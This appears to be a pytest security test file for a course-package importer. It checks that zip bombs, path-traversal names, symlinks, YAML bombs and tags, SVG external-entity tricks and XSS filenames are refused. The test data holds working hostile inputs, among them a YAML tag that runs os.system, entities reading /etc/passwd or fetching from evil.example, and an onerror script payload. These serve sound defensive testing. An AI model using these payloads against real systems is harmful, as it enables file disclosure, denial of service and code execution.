"""Course packages made to break in: ZIP files, YAML, drawings, Markdown. Each is refused quickly or made harmless."""

import io
import random
import re
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from html.parser import HTMLParser

import pytest

from app.kit.actors import Role
from app.kit.errors import Invalid, NotFound
from app.modules import package, services
from app.modules.models import Module
from app.modules.package import Broken, Package
from app.modules.package.checking import CITATION
from app.modules.package.files import MOST_FILES, MOST_TEXT
from app.modules.package.pictures import ATTRIBUTES, ELEMENTS, clean
from app.modules.package.yaml import MOST_BYTES as MOST_YAML
from app.modules.package.yaml import Document, parse
from app.modules.rendering import markdown
from tests.conftest import rows
from tests.factories import NOON
from tests.modules.payloads import ACTIVE_DRAWINGS, MARKDOWN, SVG_HEAD
from tests.modules.test_package import LESSON, SVG, files

QUICK = 5.0
"""Seconds that nothing here may take, on a slow machine that does other things besides."""

LITTLE = 100 * 1024 * 1024
"""Bytes of memory that nothing here may take."""


@contextmanager
def bounded() -> Iterator[None]:
    """What happens inside takes little time."""
    begun = time.monotonic()
    yield
    assert time.monotonic() - begun < QUICK


@contextmanager
def little() -> Iterator[None]:
    """What happens inside takes little memory."""
    tracemalloc.start()
    try:
        yield
        assert tracemalloc.get_traced_memory()[1] < LITTLE
    finally:
        tracemalloc.stop()


# ---- ZIP


def zipped(contents: dict[str, bytes] | None = None) -> bytes:
    """A ZIP file; without contents, of a sound package."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (files() if contents is None else contents).items():
            archive.writestr(name, content)
    return stream.getvalue()


def refusal(raw: bytes) -> str:
    """Why a ZIP file is refused."""
    with bounded(), little(), pytest.raises(Broken) as caught:
        package.read(package.from_zip(io.BytesIO(raw)))
    return "\n".join(str(mistake) for mistake in caught.value.mistakes)


def bomb_of_zeros() -> bytes:
    """256 MB in a quarter of one."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("pictures/x.svg", "w", force_zip64=True) as member,
    ):
        for _ in range(256):
            member.write(bytes(1024 * 1024))
    return stream.getvalue()


def bomb_of_overlaps() -> bytes:
    """Sixty names for the same megabyte."""
    raw = zipped({"pictures/x.svg": bytes(1024 * 1024)})
    end = raw.rindex(b"PK\x05\x06")
    size, start = struct.unpack("<II", raw[end + 12 : end + 20])
    tail = bytearray(raw[end:])
    tail[8:20] = struct.pack("<HHII", 60, 60, 60 * size, start)
    return raw[:start] + 60 * raw[start : start + size] + bytes(tail)


def lying_size() -> bytes:
    """The directory says one byte; 64 MB come out."""
    raw = bytearray(zipped({"pictures/x.svg": bytes(64 * 1024 * 1024)}))
    directory = raw.rindex(b"PK\x01\x02")
    raw[directory + 24 : directory + 28] = struct.pack("<I", 1)
    return bytes(raw)


def packed_as(method: int) -> bytes:
    """The same file, said to be packed in another way: 1 shrunk, 9 Deflate64, 12 bzip2, 14 LZMA, 93 Zstandard."""
    raw = bytearray(zipped())
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        place = raw.find(mark)
        while place >= 0:
            raw[place + offset : place + offset + 2] = struct.pack("<H", method)
            place = raw.find(mark, place + 4)
    return bytes(raw)


def encrypted() -> bytes:
    """The same file, marked as locked with a password."""
    raw = bytearray(zipped())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = raw.find(mark)
        while place >= 0:
            raw[place + offset] |= 1
            place = raw.find(mark, place + 4)
    return bytes(raw)


HOSTILE_ZIPS: dict[str, Callable[[], bytes]] = {
    "zeros": bomb_of_zeros,
    "overlaps": bomb_of_overlaps,
    "lying": lying_size,
    "entries": lambda: zipped({f"pictures/{number}.svg": b"" for number in range(3 * MOST_FILES)}),
    "files": lambda: zipped({f"pictures/{number}.svg": b"x" for number in range(MOST_FILES + 1)}),
    "texts": lambda: zipped(
        {f"lessons/{n:02}-x.yaml": b" " * (MOST_YAML - 1) for n in range(MOST_TEXT // MOST_YAML + 1)}
    ),
    "nested": lambda: zipped({"inner.zip": bomb_of_overlaps()}),
    "encrypted": encrypted,
    **{f"method{number}": lambda number=number: packed_as(number) for number in (1, 6, 9, 12, 14, 93, 98)},  # type: ignore[misc]
    "empty": lambda: zipped({}),
    "nothing": lambda: b"",
    "end only": lambda: b"PK\x05\x06" + bytes(18),
    "two modules": lambda: zipped(files() | {"other/module.yaml": b"format: 1"}),
}


@pytest.mark.parametrize("name", HOSTILE_ZIPS)
def test_a_hostile_zip_is_refused_quickly_and_with_little_memory(name):
    raw = HOSTILE_ZIPS[name]()
    assert refusal(raw)


@pytest.mark.parametrize(
    "name",
    [
        "../module.yaml", "a/../../module.yaml", "/etc/passwd.yaml", "..\\module.yaml", "C:\\module.yaml",
        "c:module.yaml", "\\\\server\\share\\module.yaml", "lessons/..", "module.yaml:stream", "lessons/../module.yaml",
    ],
)  # fmt: skip
def test_a_path_that_leads_outside_is_refused(name):
    assert "leads outside the package" in refusal(zipped(files() | {name: b"x"}))


@pytest.mark.parametrize(
    "name",
    ["lessons/\uff10\uff11-eins.yaml.exe", "lessons/01-\u202egpj.yaml", "pictures/ZELLE.SVG", "pictures/a b.svg",
     "con.yaml", "pictures/<img src=x>.svg", "l" * 300 + ".yaml", "pictures/x.html", "x.js", "module.yml",
     "MODULE.YAML"],
)  # fmt: skip
def test_a_file_without_a_place_is_named_and_refused(name):
    assert "has no place in a package" in refusal(zipped(files() | {name: b"x"}))


def test_a_link_in_a_zip_is_a_file_with_a_path_in_it():
    stream = io.BytesIO(zipped())
    with zipfile.ZipFile(stream, "a") as archive:
        link = zipfile.ZipInfo("lessons/02-passwd.yaml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    told = refusal(stream.getvalue())
    assert "root:" not in told
    assert "lessons/02-passwd.yaml" in told


def test_a_link_in_a_folder_is_left_out(tmp_path):
    for name, content in files().items():
        file = tmp_path / name
        file.parent.mkdir(exist_ok=True)
        file.write_bytes(content)
    (tmp_path / "lessons" / "02-passwd.yaml").symlink_to("/etc/passwd")
    (tmp_path / "pictures" / "out.svg").symlink_to(tmp_path / ".." / "elsewhere.svg")
    assert set(package.from_folder(tmp_path)) == set(files())


def test_a_zip_with_any_byte_changed_or_missing_is_read_or_refused():
    sound, chance = zipped(), random.Random(2026)  # noqa: S311 (the same every time)
    for number in range(300):
        broken = bytearray(sound)
        for _ in range(chance.choice((1, 1, 4, 40))):
            broken[chance.randrange(len(broken))] = chance.randrange(256)
        if number % 3 == 0:
            del broken[chance.randrange(len(broken)) :]
        with suppress(Broken):
            package.read(package.from_zip(io.BytesIO(bytes(broken))))


# ---- YAML

ALIASES = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9)
)
HOSTILE_YAML = {
    "aliases": ALIASES,
    "alias of itself": "a: &a [*a]",
    "alias of nothing": "a: *b",
    "anchor": "a: &b 1",
    "merge": "<<: {a: 1}\nb: 2",
    "merge of an alias": "a: &a {b: 1}\nc:\n  <<: *a",
    "python": "a: !!python/object/apply:os.system ['touch /tmp/owned']",
    "python name": "a: !!python/name:os.system",
    "tag": "a: !x {b: 1}",
    "tag of a scalar": "a: !!binary aGVsbG8=",
    "set": "a: !!set {b, c}",
    "tag directive": "%TAG ! tag:x,2000:\n---\na: !b 1",
    "brackets": "[" * 50_000,
    "braces": "{a: " * 9_000,
    "dashes": "".join(" " * n + "-\n" for n in range(300)),
    "questions": "? " * 20_000,
    "too large": "a: " + "x" * MOST_YAML,
    "huge number": "a: " + "9" * 9_000,
    "two documents": "a: 1\n---\nb: 2",
    "twice": "a: 1\na: 2",
    "tab": "a:\n\t- b",
    "zero": 'a: "\\0"',
    "zero in a key": '"\\0": a',
    "half a character": 'a: "\\ud800"',
    "carriage return": 'a: "x\\rBEGIN:VEVENT"',
    "escape": 'a: "\\x1b[2J"',
    "no day": "a: 2026-99-99",
    "directive": "%YAML 9.9\n---\na: 1",
}


@pytest.mark.parametrize("name", HOSTILE_YAML)
def test_hostile_yaml_is_refused_quickly(name):
    with bounded():
        found = parse("module.yaml", HOSTILE_YAML[name].encode())
    assert not isinstance(found, Document)
    assert str(found).startswith("module.yaml")


@pytest.mark.parametrize("raw", [b"\xff\xfea\x00", b"\xff", b"a: \xed\xa0\x80", b"\x00", b"a: b\x00"])
def test_what_is_no_utf_8_text_is_refused(raw):
    assert not isinstance(parse("module.yaml", raw), Document)


@pytest.mark.parametrize("text", ["", "~", "1", "[]", "- a", "a", "{}", "? [a, b]\n: c", "a: .nan", "a: .inf", "1: 2"])
def test_yaml_that_is_no_module_is_refused_with_a_reason(text):
    with pytest.raises(Broken):
        package.read(files(**{"module.yaml": text}))


def test_a_thousand_mistakes_are_explained_quickly():
    wrong = "".join(f"fe{number}ld: 1\n" for number in range(4_000))
    with bounded(), pytest.raises(Broken) as caught:
        package.read(files(**{"lessons/01-eins.yaml": LESSON + wrong}))
    assert len(caught.value.mistakes) <= 100


def test_a_package_with_any_byte_changed_is_read_or_refused():
    sound, chance = files(), random.Random(1)  # noqa: S311 (the same every time)
    signs = b"\"'{}[]|>&*!%@`#?:-,~<\\\n\t 0aZ\xc3\xff\x00"
    for _ in range(60):
        broken = dict(sound)
        name = chance.choice(list(broken))
        content = bytearray(broken[name])
        for _place in range(chance.choice((1, 2, 8))):
            content[chance.randrange(len(content))] = chance.choice(signs)
        broken[name] = bytes(content)
        with suppress(Broken):
            assert isinstance(package.read(broken), Package)


# ---- drawings


class Seen(HTMLParser):
    """The tags and attributes of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str, str]] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name, value or "") for name, value in attrs}


@pytest.mark.parametrize("inner", ACTIVE_DRAWINGS, ids=map(str, range(len(ACTIVE_DRAWINGS))))
def test_a_drawing_that_could_run_load_or_restyle_is_refused_or_made_harmless(inner):
    with bounded():
        found = clean("x.svg", f"{SVG_HEAD}{inner}</svg>".encode(), ["de", "en"])
    if isinstance(found, list):
        assert all(str(problem) for problem in found)
        return
    for drawing in found.svg.values():
        seen = Seen(drawing)
        assert seen.tags <= {name.lower() for name in ELEMENTS}
        assert {name for _tag, name, _value in seen.attributes} <= {
            *(name.lower() for name in ATTRIBUTES), "focusable",
        }  # fmt: skip
        for _tag, name, value in seen.attributes:
            assert not re.search(r"javascript:|data:|https?:|//", value, re.IGNORECASE)
            assert name != "href" or value.startswith("#x-")


NO_DRAWINGS = [
    b"", b"<svg", b"not xml", b"\x00", b"<html><body/></html>", b"<svg viewBox='0 0 1 1'>" + b"<g>" * 60_000,
    b"<?xml version='1.0' encoding='utf-7'?><svg viewBox='0 0 1 1'/>",
    b"<?xml version='1.0' encoding='nonsense'?><svg viewBox='0 0 1 1'/>",
    b"<!DOCTYPE svg [<!ENTITY x 'y'>]><svg viewBox='0 0 1 1'><text>&x;</text></svg>",
    b"<!DOCTYPE svg SYSTEM 'file:///etc/passwd'><svg viewBox='0 0 1 1'/>",
    b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg viewBox='0 0 1 1'><text>&x;</text></svg>",
    b"<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]><svg viewBox='0 0 1 1'/>",
    b"<svg viewBox='0 0 1 1'><text>&nope;</text></svg>", b"<svg viewBox='0 0 1 1'>&#0;</svg>",
    b"<svg viewBox='0 0 1 1'>" + b"x" * 200_001 + b"</svg>",
]  # fmt: skip


@pytest.mark.parametrize("raw", NO_DRAWINGS, ids=map(str, range(len(NO_DRAWINGS))))
def test_what_is_no_drawing_is_refused(raw):
    with bounded():
        found = clean("x.svg", raw, ["de"])
    assert isinstance(found, list)
    assert "root:" not in " ".join(map(str, found))


def test_a_drawing_nested_too_deep_or_repeated_too_often_is_refused():
    chain = '<g id="a0"><path d="M0 0"/></g>' + "".join(
        f'<g id="a{n}"><use href="#a{n - 1}"/><use href="#a{n - 1}"/></g>' for n in range(1, 40)
    )
    tiles = '<pattern id="p0"><rect/></pattern>' + "".join(
        f'<pattern id="p{n}"><rect fill="url(#p{n - 1})"/><rect fill="url(#p{n - 1})"/></pattern>' for n in range(1, 40)
    )
    for inner, words in [
        ("<g>" * 25_000 + "</g>" * 25_000, "levels deep"),
        (chain, "too often"),
        (tiles, "too often"),
        ('<g id="a"><use href="#a"/></g>', "refers to itself"),
        ('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', "refers to itself"),
        ('<pattern id="p"><rect fill="url(#p)"/></pattern>', "refers to itself"),
        ("<desc><title/></desc>", "holds words only"),
    ]:
        with bounded():
            found = clean("x.svg", f"{SVG_HEAD}{inner}</svg>".encode(), ["de"])
        assert isinstance(found, list)
        assert words in " ".join(map(str, found))


def test_a_drawing_stays_inside_its_frame():
    found = clean(
        "x.svg", SVG.replace("<svg ", '<svg overflow="visible" class="bottombar" id="content" ').encode(), ["de"]
    )
    assert not isinstance(found, list)
    frame = found.svg["de"].partition(">")[0]
    for name in ("overflow", "class", " id"):
        assert f"{name}=" not in frame


# ---- Markdown

TAGS = set("p h2 h3 h4 strong em ul ol li table thead tbody tr th td a br code blockquote hr div".split())  # noqa: SIM905
ALLOWED = {
    ("a", "href"), ("a", "rel"), ("th", "align"), ("td", "align"), ("ol", "start"), ("div", "class"),
    ("div", "tabindex"),
}  # fmt: skip


def test_there_are_enough_payloads():
    assert len(set(MARKDOWN)) >= 100


@pytest.mark.parametrize("text", MARKDOWN, ids=map(str, range(len(MARKDOWN))))
def test_markdown_becomes_nothing_but_text(text):
    with bounded():
        seen = Seen(markdown(text))
    assert seen.tags <= TAGS
    assert {(tag, name) for tag, name, _value in seen.attributes} <= ALLOWED
    for _tag, name, value in seen.attributes:
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", re.sub(r"[\x00-\x20]", "", value), re.IGNORECASE)
        assert name != "href" or scheme is None or scheme[0].lower() in {"http:", "https:", "mailto:"}


SLOW = [
    "[" * 20_000, "![" * 10_000, "*a_ " * 5_000, "[@a:" * 5_000, "[@a:" + " " * 19_000, "[a](b" * 3_300,
    "|" * 9_000 + "\n" + "-|" * 5_000, "> " * 10_000, "- " * 10_000, "<" * 20_000, "&" * 20_000,
    "a**b" + "c* " * 5_000, "`" * 19_999,
]  # fmt: skip


@pytest.mark.parametrize("text", SLOW, ids=map(str, range(len(SLOW))))
def test_no_markdown_takes_long(text):
    with bounded():
        markdown(text)
        CITATION.findall(text)


# ---- what the platform says to it


def test_a_slug_that_another_module_has_is_refused_and_nothing_is_kept(session, make):
    trio = make.trio()
    make.module(trio=trio).slug = "probe"
    session.commit()
    author, content = make.actor(Role.AUTHOR, trio=trio), package.read(files())
    with pytest.raises(Invalid, match="slug probe"):
        services.import_package(session, author, content, trio_id=trio.id, now=NOON)
    assert rows(session, Module) == 1


def test_a_trio_that_does_not_exist_is_not_found(session, make):
    admin, content = make.actor(Role.SITE_ADMIN), package.read(files())
    with pytest.raises(NotFound):
        services.import_package(session, admin, content, trio_id=2**31 - 1, now=NOON)


@pytest.mark.parametrize("name", ["zeros", "overlaps", "encrypted", "method9", "nothing"])
def test_the_page_says_so_and_nothing_is_kept(sign_in, make, name):
    trio = make.trio()
    client = sign_in(make.user(Role.AUTHOR, trio=trio))
    upload = (io.BytesIO(HOSTILE_ZIPS[name]()), "<img src=x onerror=alert(1)>.zip")
    answer = client.post("/authoring/import", data={"trio_id": str(trio.id), "package": upload})
    assert answer.status_code == 422
    assert "Nothing was imported" in answer.text
    assert "<img" not in answer.text
    assert len(answer.data) < 100_000
